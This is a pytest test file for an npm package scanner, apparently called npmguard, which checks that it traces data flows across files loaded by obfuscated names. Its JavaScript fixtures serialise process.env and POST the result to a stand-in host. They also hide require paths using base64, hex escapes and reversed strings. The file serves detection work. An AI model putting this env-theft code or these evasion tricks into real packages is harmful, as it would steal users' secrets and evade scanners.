"""Values go between the files of a package wherever one loads another, however it names it."""

from __future__ import annotations

import pytest

from npmguard.config import Limits
from npmguard.detect.analyse import analyse_package
from npmguard.detect.linked import seem_linked
from npmguard.detect.rule import load_ruleset
from npmguard.detect.rule_test import archive_of

RULESET = load_ruleset()
COLLECT = "exports.collect = () => JSON.stringify(process.env);"
SEND = "exports.send = (data) => fetch('https://a.example', {method: 'POST', body: data});"
LEAVES = "environment-leaves"  # a signal of flows


def signals(files: dict[str, str]) -> tuple[str, ...]:
    return analyse_package(archive_of(files), RULESET, Limits(), prefilter=False).signals


@pytest.mark.parametrize(
    "main",
    [
        "require('./b').send(require('./a').collect())",
        "import {collect} from './a'; import {send} from './b.js'; send(collect());",
        "require('./' + 'b').send(require(`.${'/a'}`).collect())",
        "const load = (name) => name; require(['.', 'b'].join('/')).send(require('./a').collect())",
        r"require('\x2e/b').send(require('\x2e\x2fa').collect())",
        "require(atob('Li9i')).send(require(atob('Li9h')).collect())",
        "const b = require('b/.'.split('').reverse().join('')); b.send(require('./a').collect())",
    ],
)
def test_a_flow_through_files_that_are_loaded_by_any_name(main: str) -> None:
    assert LEAVES in signals({"index.js": main, "a.js": COLLECT, "b.js": SEND})


def test_files_that_do_not_load_one_another_have_no_flow_together() -> None:
    assert LEAVES not in signals({"index.js": "require('./c')", "a.js": COLLECT, "b.js": SEND})


def test_files_that_name_one_another_seem_linked() -> None:
    files = {
        "index.js": b"require('./lib/a')",
        "lib/a.js": b"// ../lonely is another matter",
        "lib/index.js": b"export * from '.';",
        "lonely.js": b"require('fs'); require('./gone')",
    }
    assert seem_linked(files) == {"index.js", "lib/a.js"}
    assert seem_linked({"index.js": b"require('./index')"}) == frozenset()
